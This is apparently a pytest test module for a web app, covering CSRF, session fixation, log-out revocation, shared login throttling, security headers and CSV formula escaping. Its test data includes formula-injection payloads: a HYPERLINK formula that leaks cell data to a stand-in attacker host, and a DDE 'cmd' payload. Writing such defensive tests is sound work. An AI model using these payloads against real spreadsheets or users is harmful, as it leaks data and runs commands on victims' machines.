"""The browser's side of security: CSRF on every form, session fixation, login throttling
shared by several workers, formula injection in the CSV the app writes, and the security
headers on every answer.

The routes come from the route table (``security_world.endpoints``), so a new form or page
is checked without a line here.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from security_world import SECRET, WRITES, Endpoint, client_of, endpoints, ids_by

from ascent.settings import Settings
from ascent.web.access import SESSION_COOKIE, cookie_signer
from ascent.web.pages import Access
from web_demo import ADMIN, LEAD_NORTH, LEAD_SOUTH, PASSWORD, SELLER, csrf, log_in

JSON = {"accept": "application/json"}
SRC = Path(__file__).parents[2] / "src" / "ascent"
#: what a spreadsheet runs as a formula (csv_out.FORMULA_STARTS); a cell may start so only
#: when it is a number
FORMULA = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
#: modules that write CSV not for people to open: the demo's made-up exports, and the one-row
#: Ascent CSV a logged entry or a CRM's webhook is imported from (read back by the importer)
INTERNAL_CSV = {
    "demo/crm.py",
    "demo/web.py",
    "demo/linkedin_writer.py",
    "demo/outcomes.py",
    "service/manual_entry.py",
    "service/crm_webhook.py",
    "service/csv_out.py",
}


@pytest.fixture(scope="module")
def people(module_demo: Settings) -> dict[str, int]:
    return ids_by(module_demo, "SELECT email, id FROM people WHERE email IS NOT NULL")


@pytest.fixture(scope="module")
def teams(module_demo: Settings) -> dict[str, int]:
    return ids_by(module_demo, "SELECT name, id FROM teams")


def _own(people: dict[str, int], teams: dict[str, int]) -> dict[str, int]:
    """Ids the admin (or Sam, for his own forms) may reach: the guard lets them through."""
    return {"person_id": people[SELLER], "team_id": teams["Team North"], "job_id": 987654321} | {
        "token": 1
    }


def _url(endpoint: Endpoint, values: dict[str, int]) -> str:
    return re.sub(r"\{(\w+)\}", lambda m: str(values[m.group(1)]), endpoint.path)


def _forms(client: TestClient) -> list[Endpoint]:
    return [e for e in endpoints(client) if e.kind == "page" and e.method in WRITES]


def test_every_form_without_its_csrf_token_is_refused(
    demo_client: TestClient, people: dict[str, int], teams: dict[str, int]
) -> None:
    """Logged in as someone the route's guard lets through (so the CSRF cookie is there and
    only the token is wrong), a POST to every form of the route table without the token,
    urlencoded or multipart, or with a forged one: 403 ``csrf_failed``."""
    values = _own(people, teams)
    forms = _forms(demo_client)
    assert len(forms) >= 10
    for endpoint in forms:
        who = SELLER if endpoint.access is Access.SELF else ADMIN
        log_in(demo_client, who)
        url = _url(endpoint, values)
        upload = {"files": ("a.csv", b"x", "text/csv")}
        attempts = [
            demo_client.post(url, data={"note": "x"}, headers=JSON),
            demo_client.post(url, data={"csrftoken": "forged"}, headers=JSON),
            demo_client.post(url, files=upload, headers=JSON),
            demo_client.post(url, data={"csrftoken": "forged"}, files=upload, headers=JSON),
        ]
        for response in attempts:
            where = (who, endpoint.path, response.status_code)
            assert response.status_code == 403, where
            assert response.json()["error"]["type"] == "csrf_failed", where


def test_a_session_cookie_planted_before_login_is_not_the_one_after(
    demo_client: TestClient, module_demo: Settings
) -> None:
    """Session fixation: a cookie an attacker set (a token of their choosing, signed, or one
    of their own sessions) is replaced at login and opens nothing."""
    planted = cookie_signer(SECRET).dumps("attacker-chosen-token")
    demo_client.cookies.clear()
    demo_client.get("/login")
    demo_client.cookies.set(SESSION_COOKIE, planted)
    form = {"email": SELLER, "password": PASSWORD, "csrftoken": demo_client.cookies["csrftoken"]}
    response = demo_client.post("/login", data=form)
    assert response.status_code == 303
    after = response.cookies[SESSION_COOKIE]
    assert after != planted
    demo_client.cookies.clear()
    demo_client.cookies.set(SESSION_COOKIE, after)
    assert demo_client.get("/imports.json").status_code == 200
    for client in client_of(module_demo):
        client.cookies.set(SESSION_COOKIE, planted)
        assert client.get("/imports.json").status_code == 401


def test_log_out_revokes_the_session_on_the_server(
    demo_client: TestClient, module_demo: Settings
) -> None:
    """A copy of the cookie (another tab, a stolen one) is dead after log-out, in every
    worker: the session row is revoked, not just the browser's cookie deleted."""
    log_in(demo_client, LEAD_NORTH)
    cookie = demo_client.cookies[SESSION_COOKIE]
    before = ids_by(
        module_demo, "SELECT 'open', count(*) FROM web_sessions WHERE revoked_at IS NULL"
    )
    assert demo_client.post("/logout", headers=csrf(demo_client)).status_code == 303
    after = ids_by(
        module_demo, "SELECT 'open', count(*) FROM web_sessions WHERE revoked_at IS NULL"
    )
    assert after["open"] == before["open"] - 1
    for other_worker in client_of(module_demo):
        other_worker.cookies.set(SESSION_COOKIE, cookie)
        assert other_worker.get("/imports.json").status_code == 401


def test_login_throttling_is_shared_by_two_workers(
    demo_client: TestClient, module_demo: Settings
) -> None:
    """Five wrong passwords for one e-mail, alternating between two app instances on the same
    database (two workers): the sixth attempt, on either, is 429 even with the right one."""

    def attempt(client: TestClient, password: str) -> int:
        client.cookies.clear()
        client.get("/login")
        form = {"email": LEAD_SOUTH, "password": password}
        form["csrftoken"] = client.cookies["csrftoken"]
        return client.post("/login", data=form).status_code

    for other in client_of(module_demo):
        workers = [demo_client, other]
        assert [attempt(workers[i % 2], "wrong") for i in range(5)] == [401] * 5
        assert attempt(other, PASSWORD) == 429
        assert attempt(demo_client, PASSWORD) == 429
        other.cookies.clear()
        other.get("/login")
        page = other.post(
            "/login",
            data={
                "email": LEAD_SOUTH,
                "password": PASSWORD,
                "csrftoken": other.cookies["csrftoken"],
            },
        )
        assert "too many failed logins; try again in 15 minutes" in page.text


def test_every_module_that_writes_csv_for_people_escapes_formulas() -> None:
    """A CSV writer outside ``INTERNAL_CSV`` must be ``csv_out.SafeWriter``: a new export
    written with ``csv.writer`` fails here."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = {
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if "importers" not in path.parts and writers.search(path.read_text(encoding="utf-8"))
    }
    assert found - INTERNAL_CSV == set()
    assert "service/csv_out.py" in found  # the test sees the writers it must


INJECTED = {
    "contact": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_the_person_export_escapes_every_formula(
    demo_client: TestClient, people: dict[str, int]
) -> None:
    """A contact and a note that are formulas, logged through the form, come out of the
    person's export (``/person/{id}/export.zip``) quoted; no cell of any CSV in it starts as a
    formula unless it is a number."""
    sam = people[SELLER]
    log_in(demo_client, SELLER)
    for text in ("+1+1", "-2+3"):
        form = {"kind": "coffee", "contact": text, "note": text}
        assert (
            demo_client.post(f"/seller/{sam}/log", data=form, headers=csrf(demo_client)).status_code
            == 303
        )
    form = {"kind": "deal_won", "amount": "-500", **INJECTED}
    sent = demo_client.post(f"/seller/{sam}/log", data=form, headers=csrf(demo_client))
    assert sent.status_code == 303
    export = demo_client.get(f"/person/{sam}/export.zip")
    assert export.status_code == 200
    cells = list(_cells(export.content))
    assert cells
    risky = [c for c in cells if FORMULA.match(c) and not NUMBER.fullmatch(c)]
    assert risky == []
    for text in [*INJECTED.values(), "+1+1", "-2+3"]:
        assert "'" + text in cells, text


def _cells(archive: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(archive)) as zipped:
        names = [n for n in zipped.namelist() if n.endswith(".csv")]
        assert names
        for name in names:
            text = zipped.read(name).decode("utf-8")
            for row in csv.reader(io.StringIO(text)):
                yield from row


@pytest.mark.parametrize("who", [None, ADMIN])
def test_every_answer_carries_the_security_headers(
    demo_client: TestClient, people: dict[str, int], teams: dict[str, int], who: str | None
) -> None:
    """Every GET of the route table (pages, twins, API, public) anonymously, and every page
    as the admin (who sees them all; a twin is the same route's JSON), found or not: the
    content security policy, no sniffing, no referrer to other sites."""
    if who is not None:
        log_in(demo_client, who)
    values = _own(people, teams)
    gets = [
        e
        for e in endpoints(demo_client)
        if e.method == "GET" and (who is None or not e.path.endswith(".json"))
    ]
    for endpoint in gets:
        response = demo_client.get(_url(endpoint, values))
        headers, where = response.headers, (who, endpoint.path, response.status_code)
        policy = headers.get("content-security-policy", "")
        assert policy.startswith("default-src 'self'"), where
        assert "frame-ancestors 'none'" in policy, where
        assert "script-src 'self' 'unsafe-eval'" in policy or "script-src 'none'" in policy, where
        assert headers.get("x-content-type-options") == "nosniff", where
        assert headers.get("referrer-policy") == "same-origin", where
